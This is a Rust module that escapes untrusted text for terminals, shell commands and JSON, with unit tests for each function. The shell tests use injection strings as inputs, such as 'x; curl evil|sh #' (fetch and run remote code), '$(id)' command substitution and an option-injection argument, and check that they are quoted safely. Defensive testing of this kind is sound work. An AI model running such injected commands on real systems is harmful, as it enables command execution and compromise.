//! Makes untrusted text safe for a terminal, a shell or a log. This is the only place that does so.
//!
//! | text | result |
//! |---|---|
//! | in a line | characters that control a terminal become visible: `\n`, `\t`, `\u001b` |
//! | in a command to paste | one word for a shell, and no option of the command |
//! | in JSON | the same value, without the raw control characters that JSON allows |

use std::fmt::Write;

/// Whether a terminal acts on this character instead of showing it: control characters, line ends,
/// and characters that change the direction of text.
pub const fn is_control(c: char) -> bool {
    matches!(
        c,
        '\0'..='\u{1f}'
            | '\u{7f}'..='\u{9f}'
            | '\u{61c}'
            | '\u{200e}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
    )
}

/// The text on one line, with visible escapes for control characters.
pub fn one_line(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => shown.push_str("\\n"),
            '\r' => shown.push_str("\\r"),
            '\t' => shown.push_str("\\t"),
            c if is_control(c) => push_escaped(&mut shown, c),
            c => shown.push(c),
        }
    }
    shown
}

/// The text as one word of a shell: quoted unless it is plain.
pub fn shell_word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The text as the last argument of a command. A text that begins like an option is put behind
/// `--`, so that the command takes it as an argument.
pub fn shell_argument(text: &str) -> String {
    let word = shell_word(text);
    if text.starts_with('-') {
        format!("-- {word}")
    } else {
        word
    }
}

/// JSON with the same value, without characters on which a terminal acts. Such characters occur
/// only in strings.
pub fn escaped_json(json: &str) -> String {
    let mut shown = String::with_capacity(json.len());
    for c in json.chars() {
        match c {
            // A line end or tab between values is whitespace, and not part of a string.
            '\n' | '\r' | '\t' => shown.push(c),
            c if is_control(c) => push_escaped(&mut shown, c),
            c => shown.push(c),
        }
    }
    shown
}

fn push_escaped(shown: &mut String, c: char) {
    // Writing to a string cannot fail.
    let _ = write!(shown, "\\u{:04x}", u32::from(c));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_terminal_obeys_is_shown_instead() {
        assert_eq!(one_line("a\x1b[31mb\nc\td\r"), r"a\u001b[31mb\nc\td\r");
        assert_eq!(
            one_line("\0\u{7f}\u{9b}\u{9f}\u{a0}"),
            "\\u0000\\u007f\\u009b\\u009f\u{a0}"
        );
        assert_eq!(
            one_line("\u{202e}\u{2066}\u{2069}\u{2028}é語"),
            r"\u202e\u2066\u2069\u2028é語"
        );
        assert_eq!(
            one_line("\u{61c}\u{200e}\u{200f}\u{200d}"),
            "\\u061c\\u200e\\u200f\u{200d}"
        );
    }

    #[test]
    fn a_word_for_a_shell_is_one_word() {
        let cases = [
            ("emails/welcome", "emails/welcome"),
            ("", "''"),
            ("x; curl evil|sh #", "'x; curl evil|sh #'"),
            ("it's", r"'it'\''s'"),
            ("$(id)`id`", "'$(id)`id`'"),
            ("a b", "'a b'"),
        ];
        for (text, word) in cases {
            assert_eq!(shell_word(text), word);
        }
    }

    #[test]
    fn an_argument_for_a_command_is_no_option() {
        let cases = [
            ("emails", "emails"),
            ("--store=sqlite:evil.db", "-- --store=sqlite:evil.db"),
            ("-it's", r"-- '-it'\''s'"),
        ];
        for (text, argument) in cases {
            assert_eq!(shell_argument(text), argument);
        }
    }

    #[test]
    fn json_keeps_its_value_and_loses_its_controls() {
        let value = serde_json::json!({ "text": "\u{1b}\u{7f}\u{9b}\u{202e}\n\"é" });
        let escaped = escaped_json(&value.to_string());
        assert!(!escaped.contains(is_control), "{escaped}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&escaped).unwrap(),
            value
        );
        assert_eq!(escaped, r#"{"text":"\u001b\u007f\u009b\u202e\n\"é"}"#);
    }
}
